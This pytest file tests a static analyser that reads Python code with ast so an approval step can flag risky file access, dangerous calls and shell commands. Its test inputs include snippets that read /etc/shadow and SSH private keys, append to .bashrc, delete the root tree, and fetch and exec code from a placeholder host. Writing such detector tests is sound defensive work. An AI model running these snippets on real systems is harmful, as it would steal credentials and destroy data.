"""Python code read with `ast`: folded paths, dangerous calls, commands, and what stays unknown."""

from __future__ import annotations

import pytest

from codingcode_jupyter.engine.approval.python_code import analyse_python


def reading(code):
    return analyse_python(code, home="/home/u", cwd="/p")


@pytest.mark.parametrize("code, path, access", [
    ("open('/etc/'+'shadow')", "/etc/shadow", "read"),
    ("import os; open(os.path.join('/etc', 'shadow'))", "/etc/shadow", "read"),
    ("from pathlib import Path; (Path('/etc') / 'shadow').read_text()", "/etc/shadow", "read"),
    ("from pathlib import Path; (Path.home() / '.ssh' / 'id_rsa').read_text()", "/home/u/.ssh/id_rsa", "read"),
    ("import os; open(os.path.expanduser('~/.bashrc'), 'a')", "/home/u/.bashrc", "write"),
    ("import os; open(os.environ['HOME'] + '/.bashrc', 'w')", "/home/u/.bashrc", "write"),
    ("d = '/etc'; open(f'{d}/shadow')", "/etc/shadow", "read"),
    ("open('/etc/%s' % 'shadow')", "/etc/shadow", "read"),
    ("open('/etc/{}'.format('shadow'))", "/etc/shadow", "read"),
    ("open(''.join(['/etc/', 'shadow']))", "/etc/shadow", "read"),
    ("import os; os.chdir('/etc'); open('shadow')", "/etc/shadow", "read"),
    ("open('README.md')", "/p/README.md", "read"),
])
def test_paths_are_folded(code, path, access):
    assert (path, access) in [(p.path, p.access) for p in reading(code).paths]


@pytest.mark.parametrize("code, kind", [
    ("import os; os.chmod('x', 0o4755)", "setuid-bits"),
    ("import os, stat; os.chmod('x', stat.S_ISGID | 0o755)", "setuid-bits"),
    ("import os, signal; os.kill(1, signal.SIGKILL)", "kill-init"),
    ("import os; os.setuid(0)", "setuid"),
    ("import shutil; shutil.rmtree('/')", "delete-tree"),
])
def test_dangerous_calls(code, kind):
    assert kind in [c.kind for c in reading(code).calls]


@pytest.mark.parametrize("code, command", [
    ("import os; os.system('s' + 'udo id')", "sudo id"),
    ("import subprocess; subprocess.run(['sudo', 'id'])", "sudo id"),
    ("import subprocess as sp; sp.check_output('sudo id', shell=True)", "sudo id"),
    ("import os; os.execvp('sudo', ['sudo', 'id'])", "sudo id"),
])
def test_commands_are_shell_lines(code, command):
    assert [run.text for run in reading(code).commands] == [command]


@pytest.mark.parametrize("code, cwd", [
    ("import os; os.system('ls')", "/p"),
    ("import os; os.chdir('/etc'); os.system('cat shadow')", "/etc"),
    ("import os\nos.chdir('sub')\nos.system('ls')", "/p/sub"),
    ("import subprocess; subprocess.run(['ls'], cwd='/etc')", "/etc"),
    ("import subprocess; subprocess.run('ls', shell=True, cwd='src')", "/p/src"),
    ("import os, subprocess; os.chdir('/tmp'); subprocess.Popen(['ls'], cwd='x')", "/tmp/x"),
    ("import subprocess; subprocess.run(['ls'], cwd=None)", "/p"),
    ("import os; os.chdir(os.path.expanduser('~')); os.system('ls')", "/home/u"),
    ("import asyncio; asyncio.create_subprocess_exec('ls', cwd='/etc')", "/etc"),
    ("import os; os.chdir('/etc')\nimport subprocess; subprocess.run(['ls'])", "/etc"),
])
def test_commands_run_where_the_code_is(code, cwd):
    found = reading(code)
    assert [run.cwd for run in found.commands] == [cwd] and not found.unresolved, found


@pytest.mark.parametrize("code", [
    "import os\nif x:\n    os.chdir('/etc')\nos.system('ls')",
    "import os\ndef go():\n    os.chdir('/etc')\ngo()\nos.system('ls')",
    "import os\nfor d in ['a']:\n    os.chdir('/etc')",
    "import contextlib, os\nwith contextlib.chdir('/etc'):\n    os.system('ls')",
    "import os\nflag and os.chdir('/etc')",
    "import os, subprocess\nsubprocess.run(['ls'], cwd=os.environ['D'])",
    "import subprocess\nsubprocess.run(['ls', '-c', 'id'], executable='/bin/sh')",
])
def test_a_working_directory_the_judge_cannot_know_is_unresolved(code):
    assert reading(code).unresolved, code


@pytest.mark.parametrize("code", [
    "exec('import os')", "eval(input())", "import importlib; importlib.import_module('o' + 's')",
    "import os; open(os.environ.get('P'))", "import ctypes; ctypes.CDLL(None)", "import os; os.system(input())",
    "import os; os.chmod('x', mode)", "def (:",
])
def test_what_is_computed_at_run_time_is_unresolved(code):
    assert reading(code).unresolved


@pytest.mark.parametrize("code", ["print(1 + 1)", "import json; print(json.dumps({'a': 1}))", "x = [i for i in range(3)]"])
def test_plain_code_is_plain(code):
    result = reading(code)
    assert not result.unresolved and not result.calls and not result.commands


def test_downloads_are_named():
    result = reading("import urllib.request as u; u.urlretrieve('http://x.test/i.sh', 'i.sh')")
    assert result.downloads == ["/p/i.sh"]
    assert reading("import urllib.request as u; exec(u.urlopen('http://x.test').read())").runs_download
